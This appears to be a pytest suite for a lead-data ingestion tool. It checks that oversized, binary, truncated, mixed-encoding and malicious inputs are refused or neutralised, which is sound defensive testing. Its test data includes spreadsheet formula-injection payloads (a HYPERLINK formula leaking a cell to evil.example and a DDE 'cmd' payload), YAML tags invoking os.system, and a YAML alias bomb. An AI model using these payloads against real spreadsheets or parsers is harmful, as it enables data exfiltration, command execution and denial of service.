"""Hostile input (issue 7): files that are huge, binary, cut off, with a NUL byte, a 100,000-character
cell, a header only, two encodings mixed or spreadsheet formulas; contracts with YAML tags, alias
bombs, duplicate keys, or simply too big.

Each is refused whole with one clear message (naming the file and, when known, the line; never a
cell value, since cells are personal data and messages go to logs) and nothing of it stored, or it
is handled: read, stored intact, and neutralised in the files a spreadsheet opens.

Known bugs are written as ``xfail(strict=True)`` tests: they say what should happen.
"""

import codecs
import csv
import gzip
import hashlib
import io
import json
import os
import random
import time
import zipfile
from concurrent.futures import ThreadPoolExecutor
from datetime import date
from pathlib import Path

import pandas as pd
import pytest
from factories import (
    BASE_CONTRACT,
    DELIVERED_ON,
    TZ,
    delivery_file,
    ingest,
    lead,
    make_contract_file,
    outcomes_csv,
    settings_for,
)
from sqlalchemy import func, select
from typer.testing import CliRunner

from leadgov.cli import app
from leadgov.config.contract import ContractError, load_contract, parse_contract
from leadgov.config.contract.yaml_loading import MAX_CONTRACT_BYTES
from leadgov.ingest import DeliveryFile, ingest_delivery, read_options
from leadgov.models import Delivery, IdentityRun, Lead, LeadReason, OutcomeEvent, ReplacementClaim
from leadgov.models.db import session_scope
from leadgov.models.raw_record_store import raw_records_at, supplied_values_at
from leadgov.outcomes import import_outcomes
from leadgov.reading import ReadOptions, UnreadableFile, read_crm_export, read_delivery
from leadgov.reading.outcomes import read_outcomes_export
from leadgov.results import FORMULA_START, write_result_file, write_return_file

runner = CliRunner()
ACME = make_contract_file()
OPTIONS = read_options(ACME)
EXAMPLE_TEXT = BASE_CONTRACT.read_text(encoding="utf-8")

#: Personal values planted in hostile files: no refusal message may quote them.
SECRET_EMAIL = "zoe.secret-person@nexalog.fr"
SECRET_NAME = "Zoé-Secretname"
SECRET_NOTE = "secret note about the prospect"


# --- helpers ---------------------------------------------------------------------------------------


def as_file(data: bytes, name: str = "hostile.csv", delivered_on: date = DELIVERED_ON) -> DeliveryFile:
    return DeliveryFile(data=data, file_name=name, delivered_on=delivered_on, sha256=hashlib.sha256(data).hexdigest())


def csv_bytes(rows: list[dict]) -> bytes:
    """``rows`` as the acme supplier writes them (its headers, ';', UTF-8)."""
    return delivery_file(rows).take()


def counts(db_url: str) -> dict[str, int]:
    """Rows of every table a delivery or an outcome import writes."""
    with session_scope(db_url) as session:
        return {model.__tablename__: session.scalar(select(func.count()).select_from(model))
                for model in (Delivery, Lead, LeadReason, IdentityRun, OutcomeEvent, ReplacementClaim)}


NOTHING = {"delivery": 0, "lead": 0, "lead_reason": 0, "identity_run": 0, "outcome_event": 0, "replacement_claim": 0}


def refused_ingest(db_url: str, data: bytes, name: str = "hostile.csv", contract=ACME) -> UnreadableFile:
    """Ingest ``data`` and return the refusal (the test fails if the file is not refused)."""
    with pytest.raises(UnreadableFile) as caught:
        with session_scope(db_url) as session:
            ingest_delivery(session, as_file(data, name), contract, settings_for(db_url))
    return caught.value


def refusal(data: bytes, options: ReadOptions = OPTIONS, source: str = "hostile.csv") -> UnreadableFile:
    with pytest.raises(UnreadableFile) as caught:
        read_delivery(data, options, source=source)
    return caught.value


def assert_clean(message: str, source: str, *secrets: str) -> None:
    """One line, naming the file, quoting no personal value."""
    assert message.startswith(source), message
    assert "\n" not in message and "Traceback" not in message
    for secret in (SECRET_EMAIL, SECRET_NAME, SECRET_NOTE, *secrets):
        assert secret not in message, message


def within(seconds: float, func, *args):
    """``func(*args)``, failing (instead of hanging the suite) if it takes longer than ``seconds``.
    A safety net against unbounded work, not a performance assertion."""
    pool = ThreadPoolExecutor(max_workers=1)
    try:
        return pool.submit(func, *args).result(timeout=seconds)
    finally:
        pool.shutdown(wait=False)


def on_postgresql(db_url: str) -> bool:
    return db_url.startswith("postgresql")


@pytest.fixture
def env(monkeypatch):
    """Set LEADGOV_* variables for a CLI run; the cached settings are re-read."""
    from leadgov.config.settings import get_settings

    def set_env(**values: str) -> None:
        for key, value in values.items():
            monkeypatch.setenv(key, value)
        get_settings.cache_clear()

    get_settings.cache_clear()
    yield set_env
    get_settings.cache_clear()


def cli_validate(db_url: str, folder: Path, delivery: Path, *extra: str):
    return runner.invoke(app, ["validate", "--contract", str(BASE_CONTRACT), "--delivery", str(delivery),
                               "--delivered-on", DELIVERED_ON.isoformat(), "--out", str(folder / "result.csv"),
                               "--db", db_url, *extra])


def error_line(output: str) -> str:
    lines = [line for line in output.splitlines() if line.startswith("error:")]
    assert len(lines) == 1, output
    return lines[0]


# --- huge files -----------------------------------------------------------------------------------


def test_delivery_over_the_size_limit_is_refused_before_being_read(tmp_path, monkeypatch):
    path = tmp_path / "huge.csv"
    path.write_bytes(csv_bytes([lead(1)]) + b"x" * 1000)
    size = path.stat().st_size

    def no_reading(self):
        raise AssertionError("the file was read although it is over the limit")

    with monkeypatch.context() as patched:
        patched.setattr(Path, "read_bytes", no_reading)
        with pytest.raises(UnreadableFile) as caught:
            DeliveryFile.from_path(path, DELIVERED_ON, max_bytes=size - 1)
    message = str(caught.value)
    assert message == f"huge.csv: {size} bytes is more than the {size - 1}-byte limit (LEADGOV_MAX_FILE_BYTES)"
    assert DeliveryFile.from_path(path, DELIVERED_ON, max_bytes=size).take() == path.read_bytes()  # at the limit: read


def test_cli_validate_refuses_a_delivery_over_LEADGOV_MAX_FILE_BYTES(db_url, tmp_path, env):
    path = tmp_path / "huge.csv"
    path.write_bytes(csv_bytes([lead(1, email=SECRET_EMAIL), lead(2)]))
    env(LEADGOV_MAX_FILE_BYTES="200")
    result = cli_validate(db_url, tmp_path, path)
    assert result.exit_code == 2, result.output
    line = error_line(result.output)
    assert "huge.csv" in line and "200-byte limit" in line and SECRET_EMAIL not in line
    assert not (tmp_path / "result.csv").exists()
    assert counts(db_url) == NOTHING


def test_cli_validate_refuses_a_crm_export_over_LEADGOV_MAX_FILE_BYTES(db_url, tmp_path, env):
    delivery, crm = tmp_path / "small.csv", tmp_path / "crm.csv"
    delivery.write_bytes(csv_bytes([lead(1)]))
    crm.write_text("email\n" + "\n".join(f"someone{i}@example.fr" for i in range(100)), encoding="utf-8")
    env(LEADGOV_MAX_FILE_BYTES=str(len(delivery.read_bytes()) + 10))
    result = cli_validate(db_url, tmp_path, delivery, "--crm", str(crm))
    assert result.exit_code == 2, result.output
    assert "crm.csv" in error_line(result.output) and "-byte limit" in error_line(result.output)
    assert counts(db_url) == NOTHING


def test_cli_outcomes_import_refuses_a_file_over_LEADGOV_MAX_FILE_BYTES(db_url, tmp_path, env):
    ingest(db_url, [lead(1)])
    path = tmp_path / "outcomes.csv"
    path.write_bytes(outcomes_csv([{"lead_id": "L-00001", "event": "call_attempt", "at": "2027-03-02 10:00",
                                    "note": SECRET_NOTE}] * 5))
    env(LEADGOV_MAX_FILE_BYTES="100")
    result = runner.invoke(app, ["outcomes", "import", str(path), "--db", db_url])
    assert result.exit_code == 2, result.output
    line = error_line(result.output)
    assert "outcomes.csv" in line and "LEADGOV_MAX_FILE_BYTES" in line and SECRET_NOTE not in line
    assert counts(db_url)["outcome_event"] == 0


def test_cli_outcomes_import_refuses_an_oversized_file_without_reading_it(tmp_path, env, monkeypatch):
    path = tmp_path / "outcomes.csv"
    path.write_bytes(b"lead_id;supplier_id;event;at\n" + b"L-1;acme-leads;call_attempt;2027-03-02\n" * 100)
    real_read_bytes = Path.read_bytes

    def guarded(self):
        if self == path:
            raise AssertionError("an oversized outcome export was read into memory")
        return real_read_bytes(self)

    monkeypatch.setattr(Path, "read_bytes", guarded)
    env(LEADGOV_MAX_FILE_BYTES="100")
    result = runner.invoke(app, ["outcomes", "import", str(path), "--db", f"sqlite:///{tmp_path / 'o.db'}"])
    assert result.exit_code == 2 and "LEADGOV_MAX_FILE_BYTES" in result.output, result.output


# --- binary files, NUL bytes, files cut off ---------------------------------------------------------


def _zip_bytes() -> bytes:
    """What an .xlsx is: a zip archive."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("xl/worksheets/sheet1.xml", "<sheet/>")
    return buffer.getvalue()


VALID = csv_bytes([lead(1, email=SECRET_EMAIL, first_name=SECRET_NAME), lead(2)])

BINARY_FILES = {
    "random bytes": random.Random(7).randbytes(4096),
    "png": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x01\x00" + random.Random(8).randbytes(200),
    "gzip of a delivery": gzip.compress(VALID, mtime=0),
    "xlsx (zip)": _zip_bytes(),
    "utf-16 without a BOM": VALID.decode("utf-8").encode("utf-16-le"),
}


@pytest.mark.parametrize("kind", list(BINARY_FILES))
def test_binary_delivery_is_refused_with_a_clear_message(kind):
    error = refusal(BINARY_FILES[kind], source="upload.bin")
    assert_clean(str(error), "upload.bin")
    assert any(word in error.problem for word in ("NUL", "neither UTF-8 nor cp1252", "delimiter")), error.problem


def test_nul_byte_in_a_cell_refuses_the_file_naming_its_line():
    data = csv_bytes([lead(1), lead(2, email=SECRET_EMAIL), lead(3)])
    data = data.replace(SECRET_EMAIL.encode(), b"zoe\x00" + SECRET_EMAIL.encode())
    error = refusal(data)
    assert error.line == 3 and "NUL" in error.problem
    assert_clean(str(error), "hostile.csv, line 3")


def test_nul_byte_in_a_json_delivery_is_refused():
    contract = make_contract_file(**{"delivery.format": "json"})
    data = json.dumps([{"lead_id": "L1", "email": SECRET_EMAIL}, {"lead_id": "L2"}]).encode().replace(b"L2", b"L\x002")
    error = refusal(data, read_options(contract), source="d.json")
    assert "NUL" in error.problem
    assert_clean(str(error), "d.json")


def test_file_cut_inside_a_quoted_field_is_refused_naming_the_row_start():
    data = csv_bytes([lead(1), lead(2), lead(3, need=f"{SECRET_NOTE}; sur\ndeux lignes")])
    cut = data[: data.index(b"sur\ndeux")]  # inside the quoted "Besoin" cell of row 3 (line 4)
    error = refusal(cut)
    assert error.line == 4 and "unterminated quoted field" in error.problem
    assert_clean(str(error), "hostile.csv, line 4")


def test_file_cut_mid_row_keeps_the_whole_rows_and_rejects_the_cut_one(db_url):
    data = csv_bytes([lead(1), lead(2), lead(3)])
    cut = data[: data.rindex(b"Directrice") + 5]  # row 3 ends inside its job title: a short row
    with session_scope(db_url) as session:
        outcome = ingest_delivery(session, as_file(cut, "cut.csv"), ACME, settings_for(db_url))
    verdicts = outcome.result.verdicts
    assert verdicts["lead_id"].tolist() == ["L-00001", "L-00002", "L-00003"]
    assert verdicts["status"].tolist() == ["accepted", "accepted", "rejected"]
    assert "MISSING_FIELD" in verdicts.at[2, "reasons"].split(";")  # never billed as a whole lead
    assert counts(db_url)["lead"] == 3 and counts(db_url)["delivery"] == 1


def test_utf8_file_cut_inside_a_character_is_not_silently_mangled():
    data = "lead_id;first_name;need\nL1;Zoé;x\nL2;Zoé;écran".encode()[:-5]
    assert data.endswith(b";\xc3")  # ends with half of "é"
    try:
        delivery = read_delivery(data, ReadOptions(), source="cut.csv")
    except UnreadableFile as error:
        assert_clean(str(error), "cut.csv")
        return
    assert delivery.frame.at[0, "first_name"] == "Zoé"


def test_file_cut_inside_a_character_with_utf8_declared_is_refused():
    data = "lead_id;first_name;need\nL1;Zoé;x\nL2;Zoé;écran".encode()[:-5]
    error = refusal(data, ReadOptions(encoding="utf-8"), source="cut.csv")
    assert error.line == 3 and "not valid utf-8" in error.problem and "offset" in error.problem
    assert_clean(str(error), "cut.csv, line 3", "Zoé")


def _read_or_refuse_cleanly(reader: str, data: bytes, source: str) -> None:
    """Read ``data`` with one of the three CSV readers: it may refuse the file, never crash, and a
    refusal names the file without any cell."""
    read = {"delivery": lambda: read_delivery(data, ReadOptions(), source=source),
            "outcomes": lambda: read_outcomes_export(data, source=source),
            "crm": lambda: read_crm_export(data, source=source)}[reader]
    try:
        read()
    except UnreadableFile as error:
        assert_clean(str(error), source)


@pytest.mark.parametrize("reader", ["delivery", "outcomes", "crm"])
def test_bare_carriage_return_line_endings_do_not_crash_the_readers(reader):
    data = b"lead_id;email;supplier_id;event;at\rL1;a@x.fr;acme;call_attempt;2027-03-02\r"
    _read_or_refuse_cleanly(reader, data, "mac.csv")


@pytest.mark.parametrize(("reader", "data"), [
    ("delivery", b'lead_id;email;Ecran 27"\nL1;a@x.fr;y\n'),
    ("outcomes", b'lead_id;supplier_id;event;at;Note"\nL-1;acme-leads;call_attempt;2027-03-02;x\n'),
    ("crm", b'email;Note"\nx@y.fr;z\n'),
])
def test_stray_quote_in_the_header_does_not_crash_the_readers(reader, data):
    _read_or_refuse_cleanly(reader, data, "q.csv")


@pytest.mark.parametrize("data", [b"\n\xef\xbb\xbf", b"\n\xef\xbb\xbf\r", b"\xef\xbb\xbf\n\xef\xbb\xbf"])
def test_crm_export_of_a_stray_bom_is_refused_not_crashed(data):
    with pytest.raises(UnreadableFile):
        read_crm_export(data, source="crm.csv")


def test_whole_file_refusals_store_nothing(db_url):
    """Every refused delivery, at the ingest level: nothing of it is stored, not even the delivery row."""
    data = csv_bytes([lead(1), lead(2, email=SECRET_EMAIL), lead(3, need=f"{SECRET_NOTE};\nx")])
    hostile = {
        **BINARY_FILES,
        "nul byte": data.replace(SECRET_EMAIL.encode(), b"\x00" + SECRET_EMAIL.encode()),
        "cut in a quoted field": data[: data.index(b";\nx")],
        "cp1252 bytes with utf-8 declared": None,
        "empty": b"",
        "whitespace only": b" \r\n\t\n",
        "BOM only": codecs.BOM_UTF8,
    }
    utf8 = make_contract_file(**{"delivery.encoding": "utf-8"})
    for kind, content in hostile.items():
        contract = ACME
        if content is None:
            content = csv_bytes([lead(1), lead(2, first_name=SECRET_NAME)]).replace("é".encode(), b"\xe9")
            contract = utf8
        error = refused_ingest(db_url, content, f"{kind}.csv", contract)
        assert_clean(str(error), f"{kind}.csv")
    assert counts(db_url) == NOTHING


# --- a 100,000-character cell -----------------------------------------------------------------------


def test_a_100000_character_cell_is_read_and_stored_intact(db_url):
    need = "Besoin " + "é" * 99_986 + " fin."
    assert len(need) == 99_998
    outcome = ingest(db_url, [lead(1, need="  " + need + " "), lead(2)])
    assert outcome.result.verdicts["status"].tolist() == ["accepted", "accepted"]
    with session_scope(db_url) as session:
        stored = session.scalars(select(Lead).order_by(Lead.row_number)).all()
        places = pd.DataFrame({"delivery_id": [s.delivery_id for s in stored],
                               "row_number": [s.row_number for s in stored]})
        records = raw_records_at(session, places)
        needs = supplied_values_at(session, places, ["need"])["need"]
        assert needs.iloc[0] == need  # trimmed, otherwise intact
        assert json.loads(records.iloc[0])["Besoin"] == "  " + need + " "  # as delivered
        assert needs.iloc[1] == lead(2)["need"]


@pytest.mark.parametrize("quoted", [False, True])
def test_a_100000_character_cell_is_read_by_both_csv_paths(quoted):
    cell = "x" * 100_000
    text = f'lead_id;need\nL1;{chr(34) + cell + chr(34) if quoted else cell}\nL2;short\n'
    fast = read_delivery(text.encode(), ReadOptions(), source="big.csv")
    slow = read_delivery((text + "L3\n").encode(), ReadOptions(), source="big.csv")  # short row: pandas path
    assert fast.frame.at[0, "need"] == cell == slow.frame.at[0, "need"]
    assert len(fast.frame) == 2 and len(slow.frame) == 3


def test_overlong_values_in_bounded_columns_do_not_crash_the_delivery(db_url, request):
    rows = [
        lead(1, lead_id="L" * 100_000),
        lead(2, country="FRANCE METROPOLITAINE"),
        lead(3, naf_code="62.01Z - Programmation informatique"),
        lead(4, country="BE", postal_code="B-1000 Bruxelles (Belgique)"),
        lead(5),
    ]
    outcome = ingest(db_url, rows)
    assert outcome.result.verdicts["status"].tolist()[-1] == "accepted"
    assert counts(db_url)["lead"] == 5 and counts(db_url)["delivery"] == 1


# --- a header only ----------------------------------------------------------------------------------


HEADER = csv_bytes([lead(1)]).split(b"\n")[0]


@pytest.mark.parametrize("data", [HEADER + b"\n", HEADER, HEADER + b"\r\n", codecs.BOM_UTF8 + HEADER + b"\n",
                                  HEADER + b"\n\n;;;;\n  \n"])
def test_header_only_file_is_an_empty_delivery(data):
    delivery = read_delivery(data, OPTIONS, source="h.csv")
    assert len(delivery.frame) == 0 and len(delivery.raw_records) == 0


def test_header_only_file_still_has_its_header_checked():
    error = refusal(b"Ref;Email\n")
    assert "required column missing" in error.problem and error.source == "hostile.csv"


def test_header_only_file_is_stored_as_an_empty_delivery_like_an_empty_json_array(db_url, tmp_path):
    with session_scope(db_url) as session:
        csv_outcome = ingest_delivery(session, as_file(HEADER + b"\n", "h.csv"), ACME, settings_for(db_url))
    json_contract = make_contract_file(**{"delivery.format": "json", "contract_id": "ACME-JSON"})
    with session_scope(db_url) as session:
        json_outcome = ingest_delivery(session, as_file(b"[]", "h.json"), json_contract, settings_for(db_url))
    for outcome in (csv_outcome, json_outcome):
        assert outcome.delivery_id is not None and not outcome.already_ingested
        assert outcome.result.counts() == {"delivered": 0, "accepted": 0, "rejected": 0, "in_review": 0,
                                           "over_cap": 0}
    assert counts(db_url)["delivery"] == 2 and counts(db_url)["lead"] == 0
    path = write_result_file(csv_outcome.result.verdicts, tmp_path / "r.csv", "fr")
    assert path.read_text(encoding="utf-8-sig").splitlines() == [
        "row_number;lead_id;status;reasons;primary_reason;details;flags"]


def test_cli_validate_of_a_header_only_file(db_url, tmp_path, env):
    path = tmp_path / "header.csv"
    path.write_bytes(HEADER + b"\n")
    env()
    result = cli_validate(db_url, tmp_path, path)
    assert result.exit_code == 0, result.output
    assert "stored as delivery" in result.output
    assert counts(db_url)["delivery"] == 1 and counts(db_url)["lead"] == 0


# --- two encodings mixed ----------------------------------------------------------------------------

#: Row 1 written in UTF-8, row 2 in cp1252: what concatenating two exports gives.
MIXED = "lead_id;first_name\nL1;Zoé\n".encode() + "L2;Zoé\n".encode("cp1252")


def test_mixed_encodings_with_utf8_declared_are_refused_at_the_first_cp1252_byte():
    error = refusal(MIXED, ReadOptions(encoding="utf-8"), source="mixed.csv")
    assert error.line == 3 and "not valid utf-8" in error.problem and "0xE9" in error.problem
    assert_clean(str(error), "mixed.csv, line 3", "Zoé")


def test_mixed_encodings_with_auto_are_not_silently_mangled():
    try:
        delivery = read_delivery(MIXED, ReadOptions(), source="mixed.csv")
    except UnreadableFile as error:
        assert_clean(str(error), "mixed.csv", "Zoé")
        return
    assert delivery.frame["first_name"].tolist() == ["Zoé", "Zoé"]


@pytest.mark.parametrize("encoding", ["cp1252", "latin-1"])
def test_mixed_encodings_with_a_single_byte_encoding_declared_are_refused(encoding):
    error = refusal(MIXED, ReadOptions(encoding=encoding), source="mixed.csv")
    assert_clean(str(error), "mixed.csv", "Zoé")


def test_mixed_encodings_with_auto_name_both_lines():
    """The refusal says where each encoding is, so the supplier knows which export to redo."""
    error = refusal(MIXED, ReadOptions(), source="mixed.csv")
    assert error.line == 3 and "UTF-8 on line 2" in error.problem and "cp1252 (byte 0xE9) on line 3" in error.problem


def test_a_cp1252_file_of_french_names_is_not_taken_for_a_mixed_one():
    text = "lead_id;first_name\nL1;Zoé ÉLÉONORE Françoise Gérant à l'œuvre\n"
    delivery = read_delivery(text.encode("cp1252"), ReadOptions(), source="fr.csv")
    assert delivery.encoding == "cp1252"
    assert delivery.frame.at[0, "first_name"] == "Zoé ÉLÉONORE Françoise Gérant à l'œuvre"


# --- formula injection ------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(A1:A9)",
            "=1+1", "-2"]


def _cells(path: Path, delimiter: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig")), delimiter=delimiter))


def _assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START), cell


@pytest.mark.parametrize("locale", ["fr", "en"])
def test_formulas_in_cells_are_neutralised_in_the_result_and_return_files(db_url, tmp_path, locale):
    rows = [lead(i + 1, lead_id=f, employees="1" if i % 2 else "120", source="=1+1" if i == 2 else "web_form")
            for i, f in enumerate(FORMULAS)]
    first = ingest(db_url, rows)
    again = ingest(db_url, rows, name="again.csv")  # read back from the database
    assert again.already_ingested
    delimiter = {"fr": ";", "en": ","}[locale]
    for n, outcome in enumerate((first, again)):
        result = _cells(write_result_file(outcome.result.verdicts, tmp_path / f"r{n}.csv", locale), delimiter)
        returns = _cells(write_return_file(outcome.result.verdicts, tmp_path / f"ret{n}.csv", locale), delimiter)
        _assert_no_formula(result)
        _assert_no_formula(returns)
        assert [row[1] for row in result[1:]] == ["'" + f for f in FORMULAS]
        assert len(returns) > 1 and all(row[1].startswith("'") for row in returns[1:])
    with session_scope(db_url) as session:  # the database keeps what was delivered
        assert session.scalars(select(Lead.lead_id).order_by(Lead.row_number)).all() == FORMULAS


def test_formula_written_after_spaces_or_in_a_quoted_cell_is_neutralised_too(tmp_path):
    from factories import validate_rows

    rows = [lead(1, lead_id="   =1+1"), lead(2, lead_id="\t@SUM(A1)"), lead(3, lead_id='"=2+2"')]
    raw = io.StringIO()
    writer = csv.writer(raw, delimiter=";")
    writer.writerow(["lead_id", "email"])
    for row in rows:
        writer.writerow([row["lead_id"], row["email"]])
    delivery = read_delivery(raw.getvalue().encode(), ReadOptions(), source="q.csv")
    assert delivery.frame["lead_id"].tolist() == ["=1+1", "@SUM(A1)", '"=2+2"']
    verdicts = validate_rows([lead(i + 1, lead_id=v) for i, v in enumerate(delivery.frame["lead_id"])]).verdicts
    result = _cells(write_result_file(verdicts, tmp_path / "r.csv", "fr"), ";")
    _assert_no_formula(result)


# --- the same hostile cases for the outcome import ---------------------------------------------------

OUTCOME_HEADER = b"lead_id;supplier_id;event;at;contest_reason;amount_eur;objection;note\n"


def _event(n: int, **extra) -> dict:
    return {"lead_id": f"L-{n:05d}", "event": "call_attempt", "at": f"2027-03-02 1{n}:00", **extra}


def run_import(db_url: str, data: bytes, source: str = "outcomes.csv"):
    with session_scope(db_url) as session:
        return import_outcomes(session, data, source, TZ)


def test_hostile_outcome_exports_are_refused_whole_and_store_nothing(db_url):
    ingest(db_url, [lead(1), lead(2), lead(3)])
    before = counts(db_url)
    good = outcomes_csv([_event(1), _event(2, note=SECRET_NOTE), _event(3)])
    hostile = {
        **BINARY_FILES,
        "nul byte in row 2": good.replace(SECRET_NOTE.encode(), b"\x00" + SECRET_NOTE.encode()),
        "cut in a quoted field": good.rstrip(b"\n") + b';"' + SECRET_NOTE.encode(),
        "row longer than the header":
            good + b"L-00003;acme-leads;call_attempt;2027-03-02 15:00;;;;;" + SECRET_NOTE.encode() + b"\n",
        "empty": b"",
        "whitespace only": b"\n \r\n",
        "header without the event column": b"lead_id;supplier_id;at\nL-00001;acme-leads;2027-03-02\n",
        "single column": b"lead_id\nL-00001\n",
    }
    for kind, data in hostile.items():
        with pytest.raises(UnreadableFile) as caught:
            run_import(db_url, data, f"{kind}.csv")
        assert_clean(str(caught.value), f"{kind}.csv")
    assert counts(db_url) == before and before["outcome_event"] == 0


def test_outcome_refusal_names_the_line_of_a_nul_byte_and_a_cut():
    good = outcomes_csv([_event(1), _event(2, note=SECRET_NOTE), _event(3)])
    with pytest.raises(UnreadableFile) as nul:
        read_outcomes_export(good.replace(SECRET_NOTE.encode(), b"\x00"), source="o.csv")
    assert nul.value.line == 3
    with pytest.raises(UnreadableFile) as cut:
        read_outcomes_export(good.rstrip(b"\n") + b';"' + SECRET_NOTE.encode(), source="o.csv")
    assert cut.value.line == 4 and "unterminated" in cut.value.problem


def test_header_only_outcome_export_imports_nothing_without_error(db_url):
    ingest(db_url, [lead(1)])
    for data in (OUTCOME_HEADER, OUTCOME_HEADER.rstrip(b"\n"), codecs.BOM_UTF8 + OUTCOME_HEADER):
        result = run_import(db_url, data)
        assert (result.rows, result.stored, result.refused) == (0, 0, 0)
    assert counts(db_url)["outcome_event"] == 0


def test_outcome_export_cut_mid_row_refuses_only_that_row(db_url):
    ingest(db_url, [lead(1), lead(2)])
    data = outcomes_csv([_event(1), _event(2)])
    result = run_import(db_url, data[: data.rindex(b"2027-03-02") + 7])  # row 2's "at" cut to "2027-03"
    assert (result.rows, result.stored) == (2, 1)
    assert [(r.line, r.rule) for r in result.refusals] == [(3, "INVALID_AT")]
    assert counts(db_url)["outcome_event"] == 1


def test_outcome_note_of_100000_characters_is_stored_intact(db_url):
    ingest(db_url, [lead(1)])
    note = "n" * 50_000 + "é" * 50_000
    result = run_import(db_url, outcomes_csv([_event(1, note=note)]))
    assert result.stored == 1
    with session_scope(db_url) as session:
        assert session.scalar(select(OutcomeEvent.note)) == note


def test_outcome_values_overflowing_their_columns_do_not_crash_the_import(db_url, request):
    ingest(db_url, [lead(1), lead(2), lead(3)])
    result = run_import(db_url, outcomes_csv([_event(1, objection="o" * 150), _event(2, amount_eur="999999999999999"),
                                              _event(3)]))
    assert result.rows == 3 and result.stored + result.refused == 3
    assert counts(db_url)["outcome_event"] == result.stored


# --- contracts ---------------------------------------------------------------------------------------


def refused_contract(text: str, seconds: float = 30) -> ContractError:
    with pytest.raises(ContractError) as caught:
        within(seconds, parse_contract, text, "hostile.yaml")
    error = caught.value
    assert error.problems and all(isinstance(p, str) and p for p in error.problems)
    assert str(error).startswith("hostile.yaml")
    return error


@pytest.mark.parametrize("tag", [
    "!!python/object/apply:os.system ['touch /tmp/leadgov-pwned']",
    "!!python/object/new:os.system ['touch /tmp/leadgov-pwned']",
    "!!python/name:os.system",
    "!!python/module:os",
    "!custom {x: 1}",
])
def test_contract_with_a_yaml_tag_is_refused_without_running_anything(tag, monkeypatch):
    calls = []
    monkeypatch.setattr(os, "system", lambda *args: calls.append(args) or 0)
    text = EXAMPLE_TEXT.replace("contract_id: ACME-2027-01", f"contract_id: {tag}", 1)
    line = next(i for i, row in enumerate(text.splitlines(), start=1) if row.startswith("contract_id:"))
    error = refused_contract(text)
    assert error.problems[0].startswith(f"line {line}, column 14: not allowed in a contract")
    assert calls == []


def test_contract_with_a_tag_on_a_nested_value_is_refused():
    text = EXAMPLE_TEXT.replace("  countries: [FR]", "  countries: !!python/object/apply:os.getcwd []", 1)
    assert "not allowed in a contract" in refused_contract(text).problems[0]


@pytest.mark.parametrize("levels", [9, 30])
def test_alias_bomb_is_refused_quickly_without_expanding(levels):
    bomb = 'lol0: &lol0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]\n' + "".join(
        f"lol{i}: &lol{i} [{', '.join([f'*lol{i - 1}'] * 9)}]\n" for i in range(1, levels + 1))
    started = time.perf_counter()
    error = refused_contract(bomb)
    assert "aliases (*lol0) are not allowed" in error.problems[0]
    assert time.perf_counter() - started < 30  # safety net: 9**30 strings were never built


def test_merge_key_through_an_anchor_is_refused():
    text = EXAMPLE_TEXT.replace("volumes:\n", "volumes: &volumes\n", 1) + "copy:\n  <<: *volumes\n"
    assert "aliases (*volumes) are not allowed" in refused_contract(text).problems[0]


def test_duplicate_keys_are_refused_at_every_level():
    text = EXAMPLE_TEXT.replace("contract_id: ACME-2027-01", "contract_id: ACME-2027-01\ncontract_id: OTHER", 1)
    text = text.replace("  name: ACME Leads SAS", "  name: ACME Leads SAS\n  name: Someone Else", 1)
    problems = refused_contract(text).problems
    assert any(p.startswith("contract_id: written twice") for p in problems)
    assert any(p.startswith("supplier.name: written twice") for p in problems)


def test_huge_contract_is_refused_unparsed(tmp_path):
    text = EXAMPLE_TEXT + "# padding\n" * (MAX_CONTRACT_BYTES // 10)
    assert "larger than" in refused_contract(text, seconds=10).problems[0]
    path = tmp_path / "huge.yaml"
    path.write_bytes(b"a: [" + b"1, " * (MAX_CONTRACT_BYTES // 3) + b"1]\n")
    with pytest.raises(ContractError, match="larger than"):
        within(10, load_contract, path)


def test_huge_but_allowed_contract_is_refused_within_bounds():
    """Just under the size limit, a document of 100,000 list items: refused (not a contract) in bounded time."""
    text = "contract_id: [" + "x, " * 100_000 + "x]\n"
    assert len(text.encode()) < MAX_CONTRACT_BYTES
    assert refused_contract(text, seconds=60).problems


@pytest.mark.parametrize("text", ["a: " + "[" * 5000 + "]" * 5000 + "\n",
                                  "a: " + "{b: " * 3000 + "1" + "}" * 3000 + "\n",
                                  "- " * 3000 + "x\n"])
def test_deeply_nested_contract_is_refused_not_crashed(text):
    refused_contract(text)


@pytest.mark.parametrize("char", ["\x00", "\x01", "\x7f", "\ufffe"])
def test_contract_with_a_control_character_is_refused_not_crashed(char):
    refused_contract(EXAMPLE_TEXT.replace("ACME Leads SAS", f"ACME{char}Leads", 1))


def test_cli_contract_check_refuses_a_hostile_contract_in_one_line(tmp_path):
    path = tmp_path / "evil.yaml"
    path.write_text("a: &a [x, x]\nb: [*a, *a]\n", encoding="utf-8")
    result = runner.invoke(app, ["contract", "check", str(path)])
    assert result.exit_code == 2, result.output
    assert "evil.yaml: contract refused" in error_line(result.output)
    assert "line 2, column 5: aliases (*a) are not allowed" in result.output and "Traceback" not in result.output
